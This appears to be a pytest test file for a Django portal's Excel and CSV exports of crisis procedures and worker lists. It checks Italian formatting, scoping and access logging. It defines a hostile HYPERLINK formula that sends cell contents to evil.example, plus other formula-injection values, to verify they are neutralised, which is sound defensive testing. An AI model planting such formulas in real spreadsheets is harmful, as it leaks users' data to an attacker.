"""Lists people open in Excel (issue #13, item 14): the CSV for Italian Excel by default (`;`,
BOM, decimal comma, dd/mm/yyyy, headers and values in words in the user's language), XLSX for
every list, the technical CSV on request; scoped and safe from formula injection."""

import csv
import datetime
import io
import zipfile

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from cases.enums import Family
from crisi_portal.exports import readable_cell
from tests.cases.factories import CompanyFactory, CrisisProcedureFactory, ProductionUnitFactory
from tests.workers.factories import InvolvementFactory, WorkerFactory
from workers.models import PersonalDataAccess
from workers.services import outcome_record

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Clicca")'
PROCEDURES = reverse("cases:procedure_export")
CRUSCOTTO = reverse("monitoring:cruscotto_csv")


def body(response) -> bytes:
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content)


def excel_rows(response) -> list[list[str]]:
    """The rows of a CSV for Italian Excel, checking its BOM and separator."""
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = body(response).decode("utf-8")
    assert text.startswith("\ufeff"), "no BOM: Excel would read the UTF-8 as ANSI"
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))


def workbook_rows(response) -> tuple[list[list], object]:
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    content = body(response)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), "a formula in the workbook"
    sheet = load_workbook(io.BytesIO(content)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()], sheet


@pytest.fixture
def procedures(db):
    bg = CrisisProcedureFactory(
        lead="BG",
        external_id="BG-1",
        company=CompanyFactory(name=HYPERLINK),
        family=Family.CIGS_MINISTERIALE,
        start_date=datetime.date(2025, 3, 3),
    )
    ProductionUnitFactory(procedure=bg, comune="Dalmine", workers_involved=12)
    ProductionUnitFactory(procedure=bg, comune="Treviglio", workers_involved=3)
    mi = CrisisProcedureFactory(lead="MI", external_id="MI-1")
    ProductionUnitFactory(procedure=mi, comune="Rho")
    return bg, mi


# --- Cells --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (None, ""),
        (12, "12"),
        (-3, "-3"),
        (__import__("decimal").Decimal("40.5"), "40,5"),
        (12.25, "12,25"),
        (datetime.date(2025, 3, 3), "03/03/2025"),
        ("=1+1", "'=1+1"),
        ("-2", "-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("Dalmine", "Dalmine"),
    ],
)
def test_a_cell_is_written_as_italian_excel_reads_it(value, text):
    assert readable_cell(value) == text


def test_a_boolean_is_a_word():
    assert readable_cell(True) in {"Sì", "Yes"}


# --- Procedures ---------------------------------------------------------------------------


def test_the_procedure_list_csv_is_for_italian_excel(client, staff_bg, procedures):
    client.force_login(staff_bg)

    response = client.get(PROCEDURES)

    assert 'filename="procedure-' in response["Content-Disposition"]
    rows = excel_rows(response)
    header = rows[0]
    assert header[:5] == [
        "Procedura",
        "Azienda",
        "Codice fiscale dell'azienda",
        "Tipologia",
        "Stato",
    ]
    row = dict(zip(header, rows[1], strict=True))
    assert [r[0] for r in rows[1:]] == ["BG-1"], "scoped: Milan's procedure is not there"
    assert row["Azienda"] == "'" + HYPERLINK, "a formula is neutralised"
    assert row["Tipologia"] != Family.CIGS_MINISTERIALE.value, "a label, not the code"
    assert "03/03/2025" in rows[1]
    assert row["Lavoratori coinvolti"] == "15"


def test_the_headers_follow_the_users_language(client, staff_bg, procedures):
    client.force_login(staff_bg)

    rows = excel_rows(client.get(PROCEDURES, HTTP_ACCEPT_LANGUAGE="en"))

    assert rows[0][:2] == ["Procedure", "Company"]
    assert rows[1][3] != Family.CIGS_MINISTERIALE.value


def test_the_procedure_list_downloads_as_xlsx(client, staff_bg, procedures):
    client.force_login(staff_bg)

    response = client.get(PROCEDURES, {"format": "xlsx"}, HTTP_ACCEPT_LANGUAGE="en")

    assert response["Content-Disposition"].endswith('.xlsx"')
    rows, sheet = workbook_rows(response)
    assert rows[0][:2] == ["Procedure", "Company"]
    assert [r[0] for r in rows[1:]] == ["BG-1"]
    company = sheet["B2"]
    assert company.value == HYPERLINK and company.data_type == "s" and company.quotePrefix
    start = sheet["H2"]
    assert start.value.date() == datetime.date(2025, 3, 3)
    assert start.number_format == "DD/MM/YYYY"
    assert sheet["A1"].font.b, "the header is bold"


def test_the_technical_option_is_the_interchange_csv(client, staff_bg, procedures):
    from cases.interchange import HEADER

    client.force_login(staff_bg)

    text = body(client.get(PROCEDURES, {"format": "technical"})).decode()

    rows = list(csv.reader(io.StringIO(text)))
    assert not text.startswith("\ufeff") and rows[0] == HEADER
    assert {row[1] for row in rows[1:]} == {Family.CIGS_MINISTERIALE.value}


def test_an_unknown_format_is_404(client, staff_bg, procedures):
    client.force_login(staff_bg)
    assert client.get(PROCEDURES, {"format": "pdf"}).status_code == 404
    assert client.get(CRUSCOTTO, {"format": "ods"}).status_code == 404


def test_the_list_page_offers_csv_and_xlsx(client, staff_bg, procedures):
    client.force_login(staff_bg)

    page = client.get(reverse("cases:procedure_list"), {"status": "aperta"}).content.decode()

    assert f"{PROCEDURES}?status=aperta&amp;format=xlsx" in page
    assert f"{PROCEDURES}?status=aperta&amp;format=csv" in page
    assert f"{PROCEDURES}?status=aperta&amp;format=technical" in page  # to re-import


# --- Cruscotto ------------------------------------------------------------------------------


def test_the_cruscotto_downloads_in_words_and_as_xlsx(client, region):
    procedure = CrisisProcedureFactory(
        lead="BG", highly_complex=True, company=CompanyFactory(name="+39 Srl")
    )
    ProductionUnitFactory(procedure=procedure)
    client.force_login(region)

    rows = excel_rows(client.get(CRUSCOTTO, {"include_closed": "on"}))
    header = rows[0]
    assert header[:3] == ["Procedura", "Azienda", "Tipologia"]
    assert "STEP 1" in header
    assert rows[1][1] == "'+39 Srl"

    sheet_rows, _sheet = workbook_rows(
        client.get(CRUSCOTTO, {"include_closed": "on", "format": "xlsx"})
    )
    assert sheet_rows[0] == header and sheet_rows[1][0] == procedure.external_id


# --- Workers of a procedure -----------------------------------------------------------------


@pytest.fixture
def workers(procedures):
    bg, mi = procedures
    unit = bg.units.get(comune="Dalmine")
    hostile = InvolvementFactory(
        unit=unit, worker=WorkerFactory(last_name="=1+1", first_name="@Anna")
    )
    plain = InvolvementFactory(unit=unit)
    other = InvolvementFactory(unit=mi.units.get())
    return bg, mi, hostile, plain, other


def worker_export(procedure) -> str:
    return reverse("workers:procedure_workers_export", args=[procedure.pk])


def test_the_workers_of_a_procedure_download_for_excel(client, staff_bg, workers):
    bg, _mi, hostile, plain, other = workers
    client.force_login(staff_bg)

    rows = excel_rows(client.get(worker_export(bg)))

    header = rows[0]
    assert header[0] == "Codice fiscale" and "Unità produttiva" in header
    codes = {row[0] for row in rows[1:]}
    assert codes == {hostile.worker.fiscal_code, plain.worker.fiscal_code}
    assert other.worker.fiscal_code not in codes
    line = next(row for row in rows[1:] if row[0] == hostile.worker.fiscal_code)
    assert line[1:3] == ["'=1+1", "'@Anna"]
    assert "01/04/2025" in line and "STEP 1" in line and "cigs" not in line


def test_the_workers_download_as_xlsx_and_as_technical_csv(client, staff_bg, workers):
    bg, _mi, hostile, _plain, _other = workers
    client.force_login(staff_bg)

    rows, sheet = workbook_rows(client.get(worker_export(bg), {"format": "xlsx"}))
    assert len(rows) == 3
    cell = next(c for c in sheet["B"] if c.value == "=1+1")
    assert cell.data_type == "s" and cell.quotePrefix

    text = body(client.get(worker_export(bg), {"format": "technical"})).decode()
    technical = list(csv.DictReader(io.StringIO(text)))
    assert {r["income_support"] for r in technical} == {"cigs"}
    assert {r["current_step"] for r in technical} == {"STEP_1"}


def test_the_workers_export_carries_the_outcome(
    client, staff_bg, workers, django_assert_max_num_queries
):
    bg, _mi, hostile, plain, _other = workers
    outcome_record(
        user=None,
        involvement=hostile,
        data={
            "kind": "ricollocato",
            "date": datetime.date(2025, 6, 2),
            "contract_end": datetime.date(2025, 9, 30),
            "source": "comunicazione_obbligatoria",
        },
    )
    client.force_login(staff_bg)
    text = body(client.get(worker_export(bg), {"format": "technical"})).decode()
    technical = {r["fiscal_code"]: r for r in csv.DictReader(io.StringIO(text))}
    row = technical[hostile.worker.fiscal_code]
    assert [row[k] for k in ("outcome", "outcome_date", "contract_kind", "contract_end")] == [
        "ricollocato",
        "2025-06-02",
        "determinato_meno_6",
        "2025-09-30",
    ]
    assert row["outcome_source"] == "comunicazione_obbligatoria"
    assert technical[plain.worker.fiscal_code]["outcome"] == ""
    rows = excel_rows(client.get(worker_export(bg)))
    line = next(r for r in rows[1:] if r[0] == hostile.worker.fiscal_code)
    assert "Tempo determinato, meno di 6 mesi" in line or "Fixed term, under 6 months" in line


def test_a_procedure_out_of_scope_is_404(client, staff_bg, workers):
    _bg, mi, *_rest = workers
    client.force_login(staff_bg)
    assert client.get(worker_export(mi)).status_code == 404
    assert client.get(worker_export(mi), {"format": "xlsx"}).status_code == 404


def test_without_identity_rights_the_export_has_no_names(client, region, workers):
    bg, _mi, hostile, *_rest = workers
    client.force_login(region)

    text = body(client.get(worker_export(bg))).decode()

    assert hostile.worker.fiscal_code not in text and "=1+1" not in text
    assert len(list(csv.reader(io.StringIO(text), delimiter=";"))) == 3


def test_an_admins_export_records_each_identity_read(admin_user, workers):
    bg, _mi, hostile, plain, _other = workers
    client = Client()
    client.force_login(admin_user)

    body(client.get(worker_export(bg)))

    read = set(PersonalDataAccess.objects.filter(user=admin_user).values_list("worker", flat=True))
    assert read == {hostile.worker_id, plain.worker_id}


def test_the_workers_page_links_its_downloads(client, staff_bg, workers):
    bg, *_rest = workers
    client.force_login(staff_bg)

    page = client.get(reverse("workers:procedure_workers", args=[bg.pk])).content.decode()

    assert f"{worker_export(bg)}?format=xlsx" in page
